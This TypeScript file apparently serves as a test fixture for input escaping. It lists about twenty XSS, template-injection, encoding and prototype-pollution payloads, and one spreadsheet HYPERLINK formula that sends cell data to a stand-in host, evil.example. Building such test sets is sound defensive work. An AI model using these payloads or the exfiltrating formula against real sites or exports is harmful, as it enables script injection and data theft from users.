/** What somebody may write so that a page runs it, loads it or is broken by it. */
export interface Payload {
  readonly text: string
  /** As the name of a record, which has no white space. A browser takes `<img/src=x>` for the same element. */
  readonly name: string
}

/** White space that a page might give up, or that a parser takes for the end of a value. */
const wide = `${' '.repeat(60)}\t\u00a0\u2003\u200b\ufeff${' '.repeat(60)}`

/** All of them set `window.owned` or open a dialog, if anything of them is run. */
const texts: readonly string[] = [
  '<script>window.owned=1;alert(1)</script>',
  '<img src=x onerror="window.owned=1;alert(2)">',
  '<svg onload=window.owned=1><animate onbegin=alert(3) attributeName=x dur=1s></animate></svg>',
  '"><img src=x onerror=window.owned=1><x y="',
  "' autofocus onfocus='window.owned=1' onmouseover='alert(4)",
  '` autofocus onfocus=window.owned=1 style=`position:fixed',
  'javascript:window.owned=1//%0aalert(5)',
  'JaVa\tScRiPt:window.owned=1 [here](javascript:alert(6)) ![x](x) https://evil.example/',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQub3duZWQ9MTwvc2NyaXB0Pg==',
  '</title></textarea></style></script></pre><script>window.owned=1</script>',
  "{{constructor.constructor('window.owned=1')()}}<%=7-7%>#{7+7}{%raw%}",
  '&lt;img src=x onerror=alert(7)&gt;&#60;script&#62;window.owned=1&#x3c;/script&#x3e;',
  '%3Cscript%3Ewindow.owned%3D1%3C%2Fscript%3E%253Cimg%2520src%253Dx%253E&amp;lt;script&amp;gt;\\u003cimg src=x\\u003e',
  '";\u2028window.owned=1;\u2029alert(8)//',
  `far${wide}<img src=x onerror=window.owned=1>`,
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  '\u202e\u2066gnp.exe<img src=x onerror=window.owned=1>\u2069\u202c',
  '{"__proto__":{"owned":1},"constructor":{"prototype":{"owned":1}}}',
  '<iframe srcdoc="<script>parent.owned=1</script>"></iframe><object data=x></object><embed src=x>',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=x"><details open ontoggle=window.owned=1>',
]

/** Names in place of those that texts give: what objects of JavaScript have, and what addresses take for a folder. */
const named: Readonly<Record<number, string>> = { 7: '../..//evil.example/?a=%2f#b', 14: '%', 17: '__proto__' }

export const payloads: readonly Payload[] = texts.map((text, at) => ({
  text,
  name: named[at] ?? text.replace(/\s+/gu, '/'),
}))
